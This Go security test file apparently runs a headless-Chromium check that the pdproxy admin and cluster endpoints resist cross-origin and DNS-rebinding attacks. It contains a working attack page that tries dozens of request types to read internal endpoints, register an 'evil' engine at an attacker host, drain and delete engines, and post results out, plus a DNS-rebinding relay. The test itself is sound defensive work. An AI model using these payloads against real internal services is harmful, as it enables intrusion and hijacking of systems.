package security

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/pdproxy/pdproxy/internal/dev/testbed"
)

// reboundName is a name of the attacker's. It leads to the page at first and to the
// admin address afterwards.
const reboundName = "rebound.evil.example"

// attackPage tries all requests that a page can make, and reports the answers that it
// could read. TARGET is the origin of an internal address, REPORT the destination of the
// report, THIEF an engine of the attacker, ENGINE the name of a real one.
const attackPage = `<!doctype html><title>attack</title><body><script>
const target = 'TARGET', reads = [], tried = []
const within = (ms, p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error('time')), ms))])
const attempt = async (name, f) => {
  tried.push(name)
  try { const got = await within(4000, f()); if (got) reads.push(name + ': ' + String(got).slice(0, 200)) } catch (e) {}
}
const text = (path, options) => async () => { const r = await fetch(target + path, options); return r.ok && r.type != 'opaque' && await r.text() }
const engine = JSON.stringify({name: 'evil', url: 'http://THIEF', role: 'both', connector: 'none'})
const worker = JSON.stringify({key: '/blue/evil', value: 'x'})
const element = (tag, attributes) => () => new Promise((yes, no) => {
  const e = Object.assign(document.createElement(tag), attributes)
  e.onload = () => yes(tag == 'iframe' ? '' : 'loaded'); e.onerror = no
  document.body.append(e)
})
const form = (path, type, body) => () => new Promise(yes => {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame)
  const f = Object.assign(document.createElement('form'), {method: 'POST', action: target + path, enctype: type, target: frame.name})
  const i = Object.assign(document.createElement('input'), {name: body, value: ''}); f.append(i); document.body.append(f)
  frame.onload = () => { // about:blank, too, has an end
    try {
      const [navigation] = frame.contentWindow.performance.getEntriesByType('navigation')
      if (navigation.responseStatus) yes(navigation.responseStatus < 400 && frame.contentDocument.body.innerText)
    } catch (e) {}
  }
  f.submit(); setTimeout(() => yes(''), 1500)
})
const socket = () => new Promise((yes, no) => { const s = new WebSocket(target.replace('http', 'ws') + '/v1/exchanges'); s.onopen = () => yes('open'); s.onerror = no })
const events = () => new Promise((yes, no) => { const s = new EventSource(target + '/metrics'); s.onopen = () => yes('open'); s.onerror = no })
const xhr = (method, path, body) => () => new Promise((yes, no) => {
  const x = new XMLHttpRequest(); x.open(method, target + path); x.onload = () => yes(x.status < 400 && x.responseText); x.onerror = no; x.send(body)
})
;(async () => {
  for (const path of ['/metrics', '/v1/engines', '/v1/exchanges', '/v1/policies', '/get_prefix?key_prefix=/', '/cluster_info']) {
    await attempt('fetch ' + path, text(path))
    await attempt('no-cors ' + path, text(path, {mode: 'no-cors'}))
    await attempt('xhr ' + path, xhr('GET', path))
    await attempt('script ' + path, element('script', {src: target + path}))
    await attempt('img ' + path, element('img', {src: target + path}))
  }
  for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
    for (const mode of ['cors', 'no-cors']) {
      for (const [path, body] of [['/v1/engines', engine], ['/v1/drain', '{}'], ['/set', worker], ['/select', '{"role":"context","req_id":1}']]) {
        await attempt(mode + ' POST ' + path + ' ' + type, text(path, {method: 'POST', mode, body, headers: {'Content-Type': type}}))
      }
    }
  }
  await attempt('DELETE', text('/v1/engines/ENGINE', {method: 'DELETE'}))
  await attempt('PUT', text('/v1/sidecar/policies', {method: 'PUT', body: '[]'}))
  await attempt('beacon', async () => { navigator.sendBeacon(target + '/v1/engines', new Blob([engine], {type: 'text/plain'})) })
  await attempt('beacon drain', async () => { navigator.sendBeacon(target + '/v1/drain') })
  await attempt('keepalive', text('/v1/drain', {method: 'POST', mode: 'no-cors', keepalive: true}))
  await attempt('form', form('/v1/engines', 'text/plain', engine.replace(/}$/, ',"model":"') + '"}'))
  await attempt('form drain', form('/v1/drain', 'application/x-www-form-urlencoded', 'x'))
  await attempt('iframe', element('iframe', {src: target + '/v1/engines'}))
  await attempt('stylesheet', element('link', {rel: 'stylesheet', href: target + '/metrics'}))
  await attempt('WebSocket', socket)
  await attempt('EventSource', events)
  await fetch('REPORT', {method: 'POST', mode: 'no-cors', body: JSON.stringify({tried, reads})})
})()
</script>`

// report is the page's final report.
type report struct{ Tried, Reads []string }

// testBrowser opens pages of an attacker in Chromium: of another origin, and of a name
// that leads to the internal address after the page has been loaded.
func testBrowser(t *testing.T) {
	err := testbed.Install(func() error {
		_, err := exec.LookPath("chromium")
		return err
	}, "chromium")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name    string
		address func(i *internal) string
		rebound bool
	}{
		{"admin address", (*internal).adminAddr, false},
		{"admin address, rebound", (*internal).adminAddr, true},
		{"cluster_uri", func(i *internal) string { return i.cluster }, false},
		{"cluster_uri, rebound", func(i *internal) string { return i.cluster }, true},
		{"fleet.listen", func(i *internal) string { return i.fleet }, false},
		{"fleet.listen, rebound", func(i *internal) string { return i.fleet }, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			i := newInternal(t)
			r := visit(t, i, tt.address(i), tt.rebound)
			t.Logf("the page tried %d ways and could read by %d", len(r.Tried), len(r.Reads))
			if len(r.Tried) < 50 {
				t.Errorf("the page tried only %q", r.Tried)
			}
			for _, read := range r.Reads {
				t.Errorf("the page has read by %s", read)
			}
			i.unchanged()
		})
	}
}

// visit opens the attacker's page and returns its report.
func visit(t *testing.T, i *internal, target string, rebound bool) report {
	t.Helper()
	reports := make(chan report, 1)
	mux := http.NewServeMux()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	origin, page := "http://"+target, "http://"+l.Addr().String()+"/"
	if rebound {
		_, port, _ := net.SplitHostPort(target)
		origin = "http://" + net.JoinHostPort(reboundName, port)
		page = origin + "/"
	}
	text := strings.NewReplacer("TARGET", origin, "REPORT", "http://"+l.Addr().String()+"/report",
		"THIEF", i.thief.listener.Addr().String(), "ENGINE", i.engine.name("both")).Replace(attackPage)
	mux.HandleFunc("GET /", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, text)
	})
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, q *http.Request) {
		var r report
		if json.NewDecoder(q.Body).Decode(&r) == nil {
			reports <- r
		}
	})
	server := &http.Server{Handler: mux}
	go server.Serve(l)
	defer server.Close()
	if rebound {
		defer rebind(t, target, text).Close()
	}
	profile := t.TempDir()
	chromium := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-breakpad", "--no-proxy-server",
		"--user-data-dir="+profile, "--remote-debugging-pipe", "--host-resolver-rules=MAP "+reboundName+" "+reboundIP, page)
	chromium.Env = append(os.Environ(), "HOME="+profile)
	hold, end, err := os.Pipe() // the end of its DevTools pipe ends the browser
	if err != nil {
		t.Fatal(err)
	}
	silent, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	chromium.ExtraFiles = []*os.File{hold, silent}
	if err := chromium.Start(); err != nil {
		t.Fatal(err)
	}
	hold.Close()
	silent.Close()
	defer func() {
		end.Close()
		hung := time.AfterFunc(patience, func() { chromium.Process.Kill() })
		chromium.Wait()
		hung.Stop()
	}()
	select {
	case r := <-reports:
		return r
	case <-time.After(2 * time.Minute):
		t.Fatal("the page does not report")
		return report{}
	}
}

// reboundIP is the address of the attacker's name: a relay that serves the page
// once.
const reboundIP = "127.0.0.77"

// rebind serves the page to the first request at the attacker's address and
// forwards all later connections to the target. For the browser and the target
// this looks like a changed address of a name.
func rebind(t *testing.T, target, text string) net.Listener {
	t.Helper()
	_, port, _ := net.SplitHostPort(target)
	l, err := net.Listen("tcp", net.JoinHostPort(reboundIP, port))
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan struct{}, 1)
	served <- struct{}{}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				first := make([]byte, 1<<16)
				n, err := c.Read(first)
				if err != nil {
					return // a connection that the browser opened in advance
				}
				select {
				case <-served:
					fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(text), text)
					return
				default:
				}
				far, err := net.Dial("tcp", target)
				if err != nil {
					return
				}
				defer far.Close()
				far.Write(first[:n])
				go func() {
					io.Copy(far, c)
					far.Close()
				}()
				io.Copy(c, far)
			}()
		}
	}()
	return l
}
